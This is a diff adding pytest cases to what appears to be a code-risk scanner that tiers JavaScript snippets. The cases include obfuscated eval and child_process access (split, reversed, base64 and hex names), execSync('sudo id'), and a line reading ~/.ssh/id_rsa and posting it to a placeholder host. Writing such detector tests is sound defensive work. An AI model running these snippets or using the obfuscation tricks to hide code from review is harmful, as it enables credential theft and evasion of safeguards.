@@ -65,6 +65,46 @@ def test_code_from_text_needs_the_strongest_isolation(code: str) -> None:
     assert assess(code.encode(), "javascript").tier == "L3"
 
 
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const c = 'constructor'; [][c][c]('return 1')()",
+        "globalThis[['e', 'v', 'a', 'l'].join('')]('1')",
+        "globalThis['lave'.split('').reverse().join('')]('1')",
+        "(0, eval)('1')",
+        "const m = 'child_process'; require(m).execSync('id')",
+        "const { execSync: run } = require('child_process'); run('sudo id')",
+        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).execSync(process.argv[2])",
+        "require(Buffer.from('766d', 'hex').toString())",
+        "process[name]",
+    ],
+)
+def test_names_in_pieces_do_not_hide_what_is_reached(code: str) -> None:
+    assert assess(code.encode(), "javascript").tier == "L3"
+
+
+@pytest.mark.parametrize(
+    ("code", "tier"),
+    [
+        ("const key = 'name'; console.log(row[key], rows[i + 1])", "L0"),
+        ("const handlers = { a: () => 1 }; handlers[word]()", "L0"),
+        ("/a+/.exec('caat')", "L0"),
+        ("import { join } from 'node:path'; console.log(join('a', 'b'))", "L0"),
+        ("const { execFileSync } = require('child_process'); execFileSync('git', ['status'])", "L2"),
+        ("require('child_process').spawn('node', ['build.js'])", "L2"),
+    ],
+)
+def test_looking_things_up_by_name_is_no_secret(code: str, tier: str) -> None:
+    assert assess(code.encode(), "javascript").tier == tier
+
+
+def test_a_key_that_is_read_and_sent_is_theft() -> None:
+    code = "const k = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`); fetch('https://x.example.net/', { body: k })"
+    judged = assess(f"import os from 'os'; import fs from 'fs'; {code}".encode(), "javascript")
+    assert (judged.tier, judged.band) == ("L3", "critical")
+    assert {"js.sensitive", "js.both.secret.net"} <= {found.rule for found in judged.findings}
+
+
 def test_types_do_not_hide_what_is_called() -> None:
     code = "import { execSync } from 'child_process';\nconst x: string = execSync('id').toString();"
     assert assess(code.encode(), "typescript").tier == "L3"
